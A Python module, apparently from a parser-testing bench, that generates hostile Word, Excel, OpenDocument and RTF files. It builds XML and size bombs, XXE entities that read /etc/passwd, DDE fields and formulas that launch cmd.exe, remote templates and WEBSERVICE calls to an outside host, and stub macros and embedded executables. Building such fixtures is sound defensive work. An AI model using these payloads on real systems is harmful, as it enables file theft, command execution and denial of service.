"""Office documents: bombs, macros, formulas, relations to elsewhere, and broken ones."""

from __future__ import annotations

from collections.abc import Iterator

from bench.hostile.archives import locked_zip
from bench.hostile.files import TOLD, Hostile, zipped
from bench.hostile.pages import laughs

__all__ = ["documents"]

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
MAIN = "application/vnd.openxmlformats-officedocument"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
PARAGRAPH = f"<w:p><w:r><w:t>{TOLD}</w:t></w:r></w:p>"


def documents(home: str) -> Iterator[Hostile]:
    """Yield them."""
    yield from _word(home)
    yield from _sheets(home)
    yield from _open_documents(home)
    yield from _rich_text(home)
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield Hostile("an old Word file that is none", "old.doc", old + bytes(2000), False)
    yield Hostile("a document with a password", "locked.docx",
                  old + bytes(1500) + "EncryptedPackage".encode("utf-16-le") + bytes(600), False)  # fmt: skip


def docx(body: str, head: str = "", **more: bytes | str) -> bytes:
    """Give a Word document with this body; `more` are members by their names with `__` for a slash."""
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" '
            f'ContentType="{MAIN}.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'{head}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>',
            **{name.replace("__", "/"): data for name, data in more.items()},
        }
    )


def _word(home: str) -> Iterator[Hostile]:
    yield Hostile("a document of 200 MB of spaces", "bomb.docx", docx(PARAGRAPH + " " * 200_000_000))
    yield Hostile("a document of a billion laughs", "laughs.docx",
                  docx(f"<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>{PARAGRAPH}", laughs("w:document")))  # fmt: skip
    leak = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield Hostile("a document that asks for a file", "file.docx",
                  docx(f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{PARAGRAPH}", leak))  # fmt: skip
    yield Hostile("a document whose type is elsewhere", "remote.docx",
                  docx(PARAGRAPH, f'<!DOCTYPE w:document SYSTEM "{home}/w.dtd">'), None, True)  # fmt: skip
    template = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="t" Type="{OFFICE}/attachedTemplate" '
        f'Target="{home}/template.dotm" TargetMode="External"/><Relationship Id="i" Type="{OFFICE}/image" '
        f'Target="{home}/i.png" TargetMode="External"/></Relationships>'
    )
    yield Hostile("a document with a template from elsewhere", "template.docx",
                  docx(PARAGRAPH, **{"word/_rels/document.xml.rels": template}), True, True)  # fmt: skip
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)}
    yield Hostile("a document with a macro", "macro.docm", docx(PARAGRAPH, "", **macro), True)
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield Hostile("a document with a field that starts a programme", "field.docx", docx(field + PARAGRAPH), True)
    yield from _word_shapes()


def _word_shapes() -> Iterator[Hostile]:
    """Yield documents whose shape breaks parsers."""
    yield Hostile("tables in tables", "tables.docx", docx("<w:tbl><w:tr><w:tc>" * 20_000 + PARAGRAPH))
    deep = "<w:sdt><w:sdtContent>" * 3000 + PARAGRAPH + "</w:sdtContent></w:sdt>" * 3000
    yield Hostile("boxes three thousand deep", "deep.docx", docx(deep))
    yield Hostile("an attribute of ten megabytes", "attribute.docx",
                  docx(f'<w:p w:rsidR="{"A" * 10_000_000}"/>{PARAGRAPH}'))  # fmt: skip
    yield Hostile(
        "a document without a text", "without.docx", zipped({"[Content_Types].xml": "<Types/>", "word/x": ""}), False
    )
    yield Hostile("a document of broken XML", "broken.docx", docx(PARAGRAPH + "<w:p><w:r></w:p>"))
    whole = docx(PARAGRAPH * 300)
    yield Hostile("a document cut in the middle", "cut.docx", whole[: len(whole) // 2])
    yield Hostile("a million paragraphs of nothing", "empty.docx", docx("<w:p/>" * 500_000 + PARAGRAPH))
    yield Hostile(
        "a document with a member under password",
        "member.docx",
        locked_zip("word/document.xml", PARAGRAPH.encode()),
        False,
    )
    yield Hostile("a document that holds a document that holds it", "embedded.docx",
                  docx(PARAGRAPH, "", **{"word/embeddings/a.docx": docx(PARAGRAPH, "", **{"word/embeddings/b.docx": whole})}))  # fmt: skip
    yield Hostile("an object of a programme", "object.docx",
                  docx(PARAGRAPH, "", **{"word/embeddings/oleObject1.bin": b"MZ" + bytes(4000)}), True)  # fmt: skip


def xlsx(rows: str, head: str = "", **more: bytes | str) -> bytes:
    """Give a workbook of one sheet with these rows."""
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{TYPES}"/>',
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets><sheet name="Dead" sheetId="1" '
            'r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" '
            f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>',
            **{name.replace("__", "/"): data for name, data in more.items()},
        }
    )


def _cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def _sheets(home: str) -> Iterator[Hostile]:
    row = f'<row r="1">{_cell("A1", TOLD)}</row>'
    yield Hostile("a formula that starts a programme", "formula.xlsx",
                  xlsx(f'{row}<row r="2"><c r="A2"><f>cmd|\'/C calc\'!A0</f><v>0</v></c></row>'), True)  # fmt: skip
    yield Hostile("a formula that calls home", "webservice.xlsx",
                  xlsx(f'{row}<row r="2"><c r="A2"><f>WEBSERVICE("{home}/x")</f></c></row>'), True, True)  # fmt: skip
    far = f'{row}<row r="1048576">{_cell("XFD1048576", "the last cell")}</row>'
    yield Hostile("two cells a million rows apart", "far.xlsx", xlsx(far))
    yield Hostile(
        "a cell of no place", "place.xlsx", xlsx(row + f'<row r="-5">{_cell("ZZZZZZ99999999999", "x")}</row>')
    )
    strings = f'<sst xmlns="{SHEET}">' + "<si><t>x</t></si>" * 500_000 + "</sst>"
    yield Hostile(
        "half a million shared words",
        "strings.xlsx",
        xlsx(row, **{"xl/sharedStrings.xml": strings}),
    )
    yield Hostile(
        "a word that is not shared", "missing.xlsx", xlsx(row + '<row r="2"><c r="A2" t="s"><v>999999</v></c></row>')
    )
    yield Hostile("a sheet of a billion laughs", "laughs.xlsx", xlsx(row, laughs("worksheet")))
    yield Hostile("a sheet of 200 MB of spaces", "bomb.xlsx", xlsx(row + " " * 200_000_000))
    yield Hostile("half a million rows", "rows.xlsx", xlsx("<row><c><v>1</v></c></row>" * 500_000))
    yield Hostile(
        "a date that is none", "date.xlsx", xlsx(row + '<row r="2"><c r="A2" s="1"><v>99999999999</v></c></row>')
    )
    yield Hostile(
        "a workbook without its sheet",
        "without.xlsx",
        zipped({"xl/workbook.xml": f'<workbook xmlns="{SHEET}"/>'}),
        False,
    )


def odt(body: str, head: str = "", **more: bytes | str) -> bytes:
    """Give an OpenDocument text with this body."""
    return zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'{head}<office:document-content xmlns:office="{ODF}:office:1.0" xmlns:text="{ODF}:text:1.0" '
            f'xmlns:draw="{ODF}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
            f"{body}</office:text></office:body></office:document-content>",
            **{name.replace("__", "/"): data for name, data in more.items()},
        }
    )


def _open_documents(home: str) -> Iterator[Hostile]:
    told = f"<text:p>{TOLD}</text:p>"
    yield Hostile(
        "an OpenDocument of a billion laughs",
        "laughs.odt",
        odt(f"<text:p>&l9;</text:p>{told}", laughs("office:document-content")),
    )
    yield Hostile("an OpenDocument that asks for a file", "file.odt",
                  odt(f"<text:p>&x;</text:p>{told}", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))  # fmt: skip
    yield Hostile(
        "an OpenDocument with a macro", "macro.odt", odt(told, Basic__Standard__Module1='Sub Main\nShell("x")'), True
    )
    yield Hostile("a picture from elsewhere", "image.odt",
                  odt(f'<draw:frame><draw:image xlink:href="{home}/i.png"/></draw:frame>{told}'), True, True)  # fmt: skip
    yield Hostile(
        "an OpenDocument of spaces that are counted",
        "spaces.odt",
        odt(f'<text:p><text:s text:c="2000000000"/></text:p>{told}'),
    )
    yield Hostile("lists in lists", "lists.odt", odt("<text:list><text:list-item>" * 20_000 + told))
    cells = f'<table:table xmlns:table="{ODF}:table:1.0"><table:table-row table:number-rows-repeated="1048576">'
    cells += '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
    yield Hostile(
        "a table of sixteen thousand million cells", "cells.odt", odt(f"{cells}</table:table-row></table:table>{told}")
    )


def _rich_text(home: str) -> Iterator[Hostile]:
    told = r"\par " + TOLD + r"\par "
    start = r"{\rtf1\ansi\ansicpg1252 "
    yield Hostile("groups a hundred thousand deep", "deep.rtf", (start + "{" * 100_000 + told).encode())
    yield Hostile("binary that is longer than the file", "binary.rtf", (start + told + r"\bin2147483647 x}").encode())
    yield Hostile("binary of less than nothing", "less.rtf", (start + told + r"\bin-5 x}").encode())
    yield Hostile("an object of a programme", "object.rtf",
                  (start + r"{\object\objemb{\*\objdata " + "4d5a" * 50_000 + "}}" + told + "}").encode(), True)  # fmt: skip
    yield Hostile("a field that fetches", "field.rtf",
                  (start + r'{\field{\*\fldinst INCLUDEPICTURE "' + home + r'/x"}{\fldrslt }}' + told + "}").encode(), True,
                  True)  # fmt: skip
    yield Hostile(
        "a template from elsewhere",
        "template.rtf",
        (start + r"{\*\template " + home + "/t}" + told + "}").encode(),
        True,
        True,
    )
    yield Hostile(
        "letters to be passed over without end", "skip.rtf", (start + r"\uc2147483647\u1571 " + told + "}").encode()
    )
    yield Hostile("a million control words", "words.rtf", (start + r"\b\b0" * 500_000 + told + "}").encode())
    yield Hostile("rich text cut in a word", "cut.rtf", (start + told + r"\'e").encode())
    yield Hostile("a code page that is none", "page.rtf", (r"{\rtf1\ansi\ansicpg99999 " + told + "}").encode())
